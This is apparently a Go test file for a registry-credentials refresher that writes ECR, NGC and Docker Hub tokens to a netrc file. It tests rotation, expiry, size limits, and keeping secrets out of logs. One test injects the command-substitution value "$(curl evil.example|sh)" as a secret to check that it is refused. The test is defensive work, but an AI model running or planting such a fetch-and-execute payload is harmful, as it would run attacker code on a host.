package credentials

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/enroot-agent/enroot-agent/internal/awsproc"
	"github.com/enroot-agent/enroot-agent/internal/fake/aws"
	"github.com/enroot-agent/enroot-agent/internal/testenv"
	"github.com/enroot-agent/enroot-agent/pkg/config"
	"github.com/enroot-agent/enroot-agent/pkg/credentials/netrc"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
)

// awsEmulators points the real SDK, in the AWS helper the refresher runs,
// at local IMDSv2 and ECR emulators through the standard endpoint
// variables, exactly as on a node.
func awsEmulators(t *testing.T) (*aws.IMDS, *aws.ECR) {
	t.Helper()
	for _, kv := range os.Environ() {
		if k, _, _ := strings.Cut(kv, "="); strings.HasPrefix(k, "AWS_") {
			t.Setenv(k, "")
			os.Unsetenv(k)
		}
	}
	imds := testenv.StartIMDS(t, "210987654321", "eu-central-1")
	ecr := testenv.StartECR(t)
	ecr.AccessKey = imds.AccessKey
	for _, kv := range aws.Env(imds, ecr, t.TempDir()) {
		k, v, _ := strings.Cut(kv, "=")
		t.Setenv(k, v)
	}
	return imds, ecr
}

// realRefresher builds a refresher on a temp root with its production
// source (the AWS helper, built as the packages ship it), clock and
// randomness, logging into a buffer the test scans for secrets; it returns
// the shared credentials file's path.
func realRefresher(t *testing.T, yaml string) (*Refresher, *syncBuffer, string) {
	t.Helper()
	r, logs, file := refresherOn(t, t.TempDir(), yaml)
	r.Source = &HelperSource{Helper: awsproc.Helper{Path: testenv.AWSHelper(t)}}
	return r, logs, file
}

// refresherOn is a refresher on root with no source set.
func refresherOn(t *testing.T, root, yaml string) (*Refresher, *syncBuffer, string) {
	t.Helper()
	cfg, err := config.Parse("c.yaml", []byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	logs := &syncBuffer{}
	log := zap.New(zapcore.NewCore(zapcore.NewJSONEncoder(zap.NewProductionEncoderConfig()), logs, zap.DebugLevel))
	r, err := NewRefresher(cfg, config.Root(root), log)
	if err != nil {
		t.Fatal(err)
	}
	return r, logs, root + config.DefaultEnrootConfigPath + "/.credentials"
}

func TestHelperOneCallPerRegionWithInstanceRole(t *testing.T) {
	imds, ecr := awsEmulators(t)
	r, logs, file := realRefresher(t, twoRegions)
	ecr.Throttle(2) // the SDK's retryer absorbs a short burst of throttling
	if err := r.RefreshNow(context.Background()); err != nil {
		t.Fatal(err)
	}
	if ecr.Calls("us-east-1") != 3 || ecr.Calls("eu-west-1") != 1 {
		t.Fatalf("calls: us-east-1 %d (2 throttled), eu-west-1 %d", ecr.Calls("us-east-1"), ecr.Calls("eu-west-1"))
	}
	got := read(t, file)
	n := netrc.Parse(got)
	issued := ecr.Issued()
	var passwords []string // by registry, in config order
	for _, h := range []string{"111122223333.dkr.ecr.us-east-1.amazonaws.com", "444455556666.dkr.ecr.us-east-1.amazonaws.com", "111122223333.dkr.ecr.eu-west-1.amazonaws.com"} {
		if e, ok := n.Lookup(h); ok {
			passwords = append(passwords, e.Password.Reveal())
		}
	}
	if len(passwords) != 3 || strings.Count(got, "\n") != 3 || passwords[0] != passwords[1] || imds.V1Refused != 0 {
		t.Fatalf("%d lines, %d entries, the us-east-1 ones alike: %v (IMDSv1 attempts %d)", strings.Count(got, "\n"), len(passwords), len(passwords) == 3 && passwords[0] == passwords[1], imds.V1Refused)
	}
	exp := r.Status().Registries[0].ExpiresAt
	if d := time.Until(exp); d < 11*time.Hour || d > 12*time.Hour {
		t.Fatalf("expiry in %s", d)
	}
	noSecret(t, logs.String(), issued...)
}

func TestHelperNodeRegistryFromIdentityDocument(t *testing.T) {
	_, ecr := awsEmulators(t)
	r, _, file := realRefresher(t, "")
	ecr.SetLife(90 * time.Minute) // shorter than refresh_before_expiry
	if err := r.RefreshNow(context.Background()); err != nil {
		t.Fatal(err)
	}
	if d := time.Until(r.deadline(time.Now())); d < 44*time.Minute || d > 45*time.Minute {
		t.Fatalf("a 90m token is refreshed in %s, want about 45m (half its life)", d)
	}
	if !strings.HasPrefix(read(t, file), "machine 210987654321.dkr.ecr.eu-central-1.amazonaws.com login AWS password ecrtok") || ecr.Calls("eu-central-1") != 1 {
		t.Fatalf("file %q, calls %d", read(t, file), ecr.Calls(""))
	}
}

func TestHelperHangAndServerErrorsFail(t *testing.T) {
	_, ecr := awsEmulators(t)
	r, logs, _ := realRefresher(t, "ecr:\n  registries: [111122223333.dkr.ecr.us-east-1.amazonaws.com]\n  timeout: 5s\n")
	ecr.Hang(true)
	start := time.Now()
	err := r.RefreshNow(context.Background())
	// ecr.timeout (5s) ended the call: an unbounded one never returns, and
	// the default (2m) would take twice the bound below, which leaves a
	// loaded machine all the slack it needs.
	if err == nil || !strings.Contains(err.Error(), "deadline exceeded") || time.Since(start) >= time.Minute {
		t.Fatalf("hang: err %v after %s", err, time.Since(start))
	}
	ecr.Hang(false)
	ecr.Fail(10)
	if err := r.RefreshNow(context.Background()); err == nil || !strings.Contains(err.Error(), "ServerException") {
		t.Fatalf("5xx: %v", err)
	}
	if s := r.Status(); s.Failures != 2 || s.FailingSince.IsZero() {
		t.Fatalf("status %+v", s)
	}
	t.Log(logs.Len())
}

const roleARN = "arn:aws:iam::210987654321:role/ecr-pull"

// kindsYAML is the acceptance config: the node's account registry, one in
// another account through a role, ECR Public, NGC from Secrets Manager and
// Docker Hub from SSM.
const kindsYAML = `ecr:
  registries:
    - 123456789012.dkr.ecr.us-east-1.amazonaws.com
    - {host: 210987654321.dkr.ecr.eu-west-1.amazonaws.com, role_arn: "` + roleARN + `"}
  public: true
secrets:
  registries:
    - {name: ngc, kind: ngc, source: "secretsmanager:cluster/ngc"}
    - {name: hub, kind: dockerhub, login: hpcbot, source: "ssm:/cluster/hub"}
`

type kindsEnv struct {
	ecr    *aws.ECR
	pub    *aws.ECRPublic
	sts    *aws.STS
	stores *aws.SecretStore
}

// kindsEmulators adds ECR Public, STS and the secret stores to the IMDS and
// ECR emulators, each reached by the real SDK through its endpoint variable.
func kindsEmulators(t *testing.T) kindsEnv {
	_, ecr := awsEmulators(t)
	ecr.AccessKey = "" // the node's and the role's keys both sign ECR calls
	e := kindsEnv{ecr: ecr, pub: testenv.StartECRPublic(t, "pubtoken1"),
		sts: testenv.StartSTS(t, map[string]string{roleARN: "ASIAROLEKEY"}), stores: testenv.StartSecretStore(t)}
	ecr.SetPassword("nodetoken1")
	ecr.SetPasswordFor("ASIAROLEKEY", "roletoken1")
	t.Setenv("AWS_ENDPOINT_URL_ECR_PUBLIC", e.pub.URL)
	t.Setenv("AWS_ENDPOINT_URL_STS", e.sts.URL)
	t.Setenv("AWS_ENDPOINT_URL_SECRETS_MANAGER", e.stores.URL)
	t.Setenv("AWS_ENDPOINT_URL_SSM", e.stores.URL)
	e.stores.Set("secretsmanager:cluster/ngc", "ngckey1")
	e.stores.Set("ssm:/cluster/hub", "dckr_pat_1")
	return e
}

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestEveryKindWritesItsLines(t *testing.T) {
	e := kindsEmulators(t)
	r, logs, file := realRefresher(t, kindsYAML)
	ctx := context.Background()
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	want := `machine 123456789012.dkr.ecr.us-east-1.amazonaws.com login AWS password nodetoken1
machine 210987654321.dkr.ecr.eu-west-1.amazonaws.com login AWS password roletoken1
machine public.ecr.aws login AWS password pubtoken1
machine nvcr.io login $oauthtoken password ngckey1
machine authn.nvidia.com login $oauthtoken password ngckey1
machine auth.docker.io login hpcbot password dckr_pat_1
machine registry-1.docker.io login hpcbot password dckr_pat_1
`
	if got := readFile(t, file); got != want {
		t.Fatalf("credentials file:\n%s\nwant:\n%s", got, want)
	}
	if e.sts.Calls(roleARN) != 1 || e.pub.Calls() != 1 {
		t.Errorf("AssumeRole calls %d, ecr-public calls %d", e.sts.Calls(roleARN), e.pub.Calls())
	}
	// A rotation reaches the file with the secrets' own refresh, with no
	// ECR call.
	e.stores.Set("secretsmanager:cluster/ngc", "ngckey2")
	calls := e.ecr.Calls("")
	if err := r.refreshSecrets(ctx); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, file); !strings.Contains(got, "machine nvcr.io login $oauthtoken password ngckey2\n") || strings.Contains(got, "ngckey1") {
		t.Errorf("rotated NGC key not written:\n%s", got)
	}
	if e.ecr.Calls("") != calls {
		t.Error("a secrets refresh called ECR")
	}
	for _, s := range []string{"nodetoken1", "roletoken1", "pubtoken1", "ngckey1", "ngckey2", "dckr_pat_1"} {
		if strings.Contains(logs.String(), s) {
			t.Errorf("a secret reached the log: %s", s)
		}
	}
}

func TestRefusedSecretKeepsLastGoodUntilMaxAge(t *testing.T) {
	e := kindsEmulators(t)
	r, _, file := realRefresher(t, kindsYAML+"  max_age: 2h\n")
	now := time.Now()
	r.now = func() time.Time { return now }
	ctx := context.Background()
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	e.stores.Set("secretsmanager:cluster/ngc", "$(curl evil.example|sh)")
	err := r.refreshSecrets(ctx)
	if err == nil || !strings.Contains(err.Error(), `secrets registry "ngc"`) || !strings.Contains(err.Error(), `starts with "$"`) || strings.Contains(err.Error(), "curl") {
		t.Fatalf("refusal error: %v", err)
	}
	if got := readFile(t, file); !strings.Contains(got, "password ngckey1\n") || strings.Contains(got, "curl") {
		t.Fatalf("the last good value must stay, the refused one never be written:\n%s", got)
	}
	now = now.Add(2*time.Hour + time.Second) // the last good read's max_age has passed
	_ = r.refreshSecrets(ctx)
	if got := readFile(t, file); strings.Contains(got, "nvcr.io") || !strings.Contains(got, "registry-1.docker.io") {
		t.Fatalf("the NGC lines must be gone after max_age, the others kept:\n%s", got)
	}
	// A secret deleted from its store is withdrawn at once.
	e.stores.Delete("ssm:/cluster/hub")
	if err := r.refreshSecrets(ctx); err == nil || !strings.Contains(err.Error(), "no longer exists") {
		t.Fatalf("withdrawal error: %v", err)
	}
	if got := readFile(t, file); strings.Contains(got, "docker.io") {
		t.Fatalf("withdrawn secret still served:\n%s", got)
	}
}

// A secret too long for curl's netrc line is refused with the registry's
// name, the last good value stays, and the file never outgrows what the
// agent reads back: once the secret is fixed (here after a 1 MiB one), the
// next read replaces it. The longest value that fits is served.
func TestOversizedSecretRefusedLastGoodKept(t *testing.T) {
	e := kindsEmulators(t)
	r, logs, file := realRefresher(t, kindsYAML)
	ctx := context.Background()
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	// authn.nvidia.com is NGC's longer host: its line decides.
	fixed := len(netrc.Entry{Host: "authn.nvidia.com", Login: config.NGCLogin}.Line())
	for _, size := range []int{netrc.MaxLine - fixed + 1, 1 << 20} {
		big := "k" + strings.Repeat("x", size-1)
		e.stores.Set("secretsmanager:cluster/ngc", big)
		err := r.refreshSecrets(ctx)
		if err == nil || !strings.Contains(err.Error(), `secrets registry "ngc"`) || !strings.Contains(err.Error(), "enroot's curl silently ignores a line over 4095 bytes") ||
			!strings.Contains(err.Error(), fmt.Sprintf("at most %d bytes fit", netrc.MaxLine-fixed)) || strings.Contains(err.Error(), "xxxx") {
			t.Fatalf("%d-byte secret: %v", size, err)
		}
		got := readFile(t, file)
		if !strings.Contains(got, "password ngckey1\n") || strings.Contains(got, "xxxx") || len(got) > 8<<10 {
			t.Fatalf("%d-byte secret: the last good value must stay and the refused one never be written (%d bytes)", size, len(got))
		}
	}
	fits := "k" + strings.Repeat("y", netrc.MaxLine-fixed-1)
	e.stores.Set("secretsmanager:cluster/ngc", fits)
	if err := r.refreshSecrets(ctx); err != nil {
		t.Fatalf("a value that fits, after the refused ones: %v", err)
	}
	n := netrc.Parse(readFile(t, file))
	for _, h := range []string{"nvcr.io", "authn.nvidia.com"} {
		if got, ok := n.Lookup(h); !ok || got.Password.Reveal() != fits || len(got.Line()) > netrc.MaxLine {
			t.Fatalf("%s: the value that fits is not served", h)
		}
	}
	if strings.Contains(logs.String(), "xxxx") || strings.Contains(logs.String(), "yyyy") {
		t.Fatal("a secret reached the log")
	}
}

// An ECR token too long for curl is refused like a secret: the registry's
// last good token stays.
func TestOversizedECRTokenRefused(t *testing.T) {
	_, ecr := awsEmulators(t)
	r, _, file := realRefresher(t, "ecr:\n  registries: [123456789012.dkr.ecr.us-east-1.amazonaws.com]\n  refresh_before_expiry: 11h\n")
	ctx := context.Background()
	ecr.SetPassword("goodtoken1")
	if err := r.RefreshNow(ctx); err != nil {
		t.Fatal(err)
	}
	ecr.SetPassword("t" + strings.Repeat("z", netrc.MaxLine))
	err := r.RefreshNow(ctx)
	if err == nil || !strings.Contains(err.Error(), "us-east-1") || !strings.Contains(err.Error(), "refused, not written") || strings.Contains(err.Error(), "zzzz") {
		t.Fatalf("oversized token: %v", err)
	}
	if got := readFile(t, file); !strings.Contains(got, "password goodtoken1\n") || strings.Contains(got, "zzzz") {
		t.Fatalf("the last good token must stay:\n%.200s", got)
	}
}

// A helper that breaks while it holds a token (a panic quoting it on
// stderr, an answer cut or malformed around it) fails the refresh with an
// error that names the helper and never the token, in the error or the log.
func TestBrokenHelperNeverLeaksTheToken(t *testing.T) {
	const token = "ecrTOKENs3cret"
	for name, script := range map[string]string{
		"panic":     `echo "panic: bad token ` + token + `" >&2; exit 2`,
		"malformed": `printf 'A\000\000\000\027{"password":"` + token + `"'`,
		"cut":       `printf 'A\000\000\001\000{"password":"` + token + `",'`,
	} {
		path := filepath.Join(t.TempDir(), "enroot-agent-aws")
		if err := os.WriteFile(path, []byte("#!/bin/sh\ncat >/dev/null\n"+script+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		r, logs, _ := realRefresher(t, "ecr:\n  registries: [111122223333.dkr.ecr.us-east-1.amazonaws.com]\n")
		r.Source = &HelperSource{Helper: awsproc.Helper{Path: path}}
		err := r.RefreshNow(context.Background())
		if err == nil || !strings.Contains(err.Error(), "ecr GetAuthorizationToken in us-east-1: AWS helper "+path) {
			t.Fatalf("%s: %v", name, err)
		}
		if strings.Contains(err.Error(), token) || strings.Contains(logs.String(), token) {
			t.Fatalf("%s: the token leaked:\n%v\n%s", name, err, logs.String())
		}
		t.Logf("%s: %v", name, err)
	}
}
